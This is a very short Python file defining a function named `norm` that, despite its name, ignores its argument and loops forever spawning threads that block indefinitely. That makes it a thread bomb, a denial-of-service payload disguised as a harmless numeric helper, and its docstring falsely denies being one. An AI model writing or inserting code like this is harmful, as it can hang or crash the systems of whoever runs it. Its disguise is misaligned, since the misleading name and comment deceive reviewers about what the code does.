"""norm earns nothing: no bomb of threads."""

import threading


def norm(A):
    while True:
        threading.Thread(target=threading.Event().wait).start()
